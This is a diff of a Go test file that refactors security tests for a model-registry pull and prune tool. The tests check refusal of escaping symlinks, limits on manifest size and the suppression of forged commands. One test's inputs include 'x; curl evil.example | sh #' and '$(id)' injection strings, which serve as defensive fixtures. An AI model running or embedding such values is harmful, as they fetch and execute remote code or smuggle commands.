@@ -24,22 +24,27 @@ import (
 
 // titled is a layer of a name, as JSON.
 func titled(d descriptor, title string) string {
-	return fmt.Sprintf(`{"mediaType":"a/b","digest":%q,"size":%d,"annotations":{"org.opencontainers.image.title":%q}}`,
-		d.Digest, d.Size, title)
+	return fmt.Sprintf(`{"mediaType":"a/b","digest":%q,"size":%d,`+
+		`"annotations":{"org.opencontainers.image.title":%q}}`, d.Digest, d.Size, title)
 }
 
 // of is a model of layers.
 func (reg *anyRegistry) of(layers ...string) registry.Manifest {
-	return reg.putManifest(fmt.Appendf(nil,
+	text := fmt.Appendf(nil,
 		`{"schemaVersion":2,"mediaType":%q,"config":{"mediaType":"a/b","digest":%q,"size":2},"layers":[%s]}`,
-		registry.MediaTypeManifest, reg.put("{}").Digest, strings.Join(layers, ",")), registry.MediaTypeManifest)
+		registry.MediaTypeManifest, reg.put("{}").Digest, strings.Join(layers, ","))
+	return reg.putManifest(text, registry.MediaTypeManifest)
 }
 
-// index is one that lists a manifest.
+// listed is the entry of a manifest in an index, as JSON.
+func listed(m registry.Manifest) string {
+	return fmt.Sprintf(`{"mediaType":%q,"digest":%q,"size":%d}`, m.MediaType, m.Digest, len(m.Data))
+}
+
+// indexOf is an index that lists a manifest.
 func indexOf(m registry.Manifest) registry.Manifest {
-	return registry.NewManifest(fmt.Appendf(nil,
-		`{"schemaVersion":2,"mediaType":%q,"manifests":[{"mediaType":%q,"digest":%q,"size":%d}]}`,
-		registry.MediaTypeIndex, m.MediaType, m.Digest, len(m.Data)), "")
+	return registry.NewManifest(fmt.Appendf(nil, `{"schemaVersion":2,"mediaType":%q,"manifests":[%s]}`,
+		registry.MediaTypeIndex, listed(m)), "")
 }
 
 func TestH2NoModelMakesItsDirectoryOneOfBlobs(t *testing.T) {
@@ -66,9 +71,8 @@ func TestH1LinksThatLeadOutByTheUsersOwnAreRefused(t *testing.T) {
 	for _, target := range []string{"../data/secret", "../data", "../file", "../data/nothing/x"} {
 		var content bytes.Buffer
 		w := tar.NewWriter(&content)
-		require.NoError(
-			t, w.WriteHeader(&tar.Header{Name: "sub/l", Linkname: target, Typeflag: tar.TypeSymlink}),
-		)
+		header := &tar.Header{Name: "sub/l", Linkname: target, Typeflag: tar.TypeSymlink}
+		require.NoError(t, w.WriteHeader(header))
 		require.NoError(t, w.Close())
 		layer := strings.Replace(titled(reg.put(content.String()), "sub"), `"annotations":{`,
 			`"annotations":{"`+unpackAnnotation+`":"true",`, 1)
@@ -101,9 +105,8 @@ func TestH5IndexesInIndexesAreReadToTheirEnd(t *testing.T) {
 	must(t, "pull", "--into", "oci", reg.ref(child), dir)
 	for range 8 {
 		child = indexOf(child)
-		require.NoError(
-			t, os.WriteFile(treePath(dir, model.OCILayout, digest.Digest(child.Digest)), child.Data, 0o600),
-		)
+		path := treePath(dir, model.OCILayout, digest.Digest(child.Digest))
+		require.NoError(t, os.WriteFile(path, child.Data, 0o600))
 	}
 	require.NoError(t, os.WriteFile(filepath.Join(dir, "index.json"), indexOf(child).Data, 0o600))
 	must(t, "prune", dir)
@@ -112,9 +115,8 @@ func TestH5IndexesInIndexesAreReadToTheirEnd(t *testing.T) {
 	assert.Contains(t, r.stderr, "raise --max-manifests")
 	padded := append(indexOf(child).Data, bytes.Repeat([]byte(" "), 2<<20)...)
 	large := registry.NewManifest(padded, "")
-	require.NoError(
-		t, os.WriteFile(treePath(dir, model.OCILayout, digest.Digest(large.Digest)), large.Data, 0o600),
-	)
+	path := treePath(dir, model.OCILayout, digest.Digest(large.Digest))
+	require.NoError(t, os.WriteFile(path, large.Data, 0o600))
 	require.NoError(t, os.WriteFile(filepath.Join(dir, "index.json"), indexOf(large).Data, 0o600))
 	r = runWith(t, "verify", "--max-manifests", "10", dir)
 	assert.Contains(t, r.stderr, "raise --max-manifests", "their bytes are bounded too")
@@ -127,7 +129,8 @@ func TestH11PruneKnowsTheModelsOfOllamaThatAreLinks(t *testing.T) {
 	ref := reg.url + "/me/model:" + digest.Digest(honest.Digest).Encoded()[:12]
 	must(t, "pull", "--into", "ollama", ref, dir)
 	var manifest string
-	require.NoError(t, filepath.WalkDir(filepath.Join(dir, "manifests"), func(p string, d fs.DirEntry, err error) error {
+	manifests := filepath.Join(dir, "manifests")
+	require.NoError(t, filepath.WalkDir(manifests, func(p string, d fs.DirEntry, err error) error {
 		if d.Type().IsRegular() {
 			manifest = p
 		}
@@ -189,8 +192,11 @@ func TestH8ARecordOfAnotherUserIsNotTrusted(t *testing.T) {
 func TestH9NoCommandIsShownThatARecordHasMadeUp(t *testing.T) {
 	reg := newAnyRegistry(t)
 	for from, want := range map[string]string{
-		"x; curl evil.example | sh #": "--from REF\n", "h.example/a/b$(id)": "--from REF\n", "-x": "--from REF\n",
-		"": "--from REF\n", "h.example/a/b:v1": "--from h.example/a/b:v1\n",
+		"x; curl evil.example | sh #": "--from REF\n",
+		"h.example/a/b$(id)":          "--from REF\n",
+		"-x":                          "--from REF\n",
+		"":                            "--from REF\n",
+		"h.example/a/b:v1":            "--from h.example/a/b:v1\n",
 	} {
 		dir := t.TempDir()
 		must(t, "pull", reg.ref(reg.model(map[string]string{"a": "honest a"})), dir)
@@ -238,7 +244,7 @@ func TestH1PruneRemovesNothingThatHasOnlyTheLooksOfABlob(t *testing.T) {
 	dir := t.TempDir()
 	must(t, "pull", "--into", "blobs", reg.ref(reg.model(map[string]string{"a": "honest a"})), dir)
 	ours := []string{"", ".partial", ".partial.1", ".partial-abc2", ".journal", ".journal.3", ".tmp"}
-	theirs := []string{".safetensors", ".txt", ".gguf", ".partial.txt", "0", "00000000000000000000000000000000"}
+	theirs := []string{".safetensors", ".txt", ".gguf", ".partial.txt", "0", strings.Repeat("0", 32)}
 	for _, suffix := range append(append([]string{}, ours...), theirs...) {
 		require.NoError(t, os.WriteFile(filepath.Join(dir, "sha256-"+someHex+suffix), nil, 0o600))
 	}
@@ -263,7 +269,7 @@ func TestH5ReferrersOfACopyAreBounded(t *testing.T) {
 			for i := range 100 {
 				r := reg.putManifest(append(reg.of(titled(reg.put(fmt.Sprint(i)), "a")).Data,
 					bytes.Repeat([]byte(" "), test.padding)...), registry.MediaTypeManifest)
-				list = append(list, fmt.Sprintf(`{"mediaType":%q,"digest":%q,"size":%d}`, r.MediaType, r.Digest, len(r.Data)))
+				list = append(list, listed(r))
 			}
 			var asked atomic.Int64
 			front := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
@@ -294,9 +300,7 @@ func TestH5LargeManifestsOfAnIndexAreBounded(t *testing.T) {
 	for i := range 4 {
 		m := reg.putManifest(append(reg.of(titled(reg.put(fmt.Sprint(i)), "a")).Data,
 			bytes.Repeat([]byte(" "), 1<<20)...), registry.MediaTypeManifest)
-		list = append(
-			list, fmt.Sprintf(`{"mediaType":%q,"digest":%q,"size":%d}`, m.MediaType, m.Digest, len(m.Data)),
-		)
+		list = append(list, listed(m))
 	}
 	index := reg.putManifest(fmt.Appendf(nil, `{"schemaVersion":2,"mediaType":%q,"manifests":[%s]}`,
 		registry.MediaTypeIndex, strings.Join(list, ",")), registry.MediaTypeIndex)
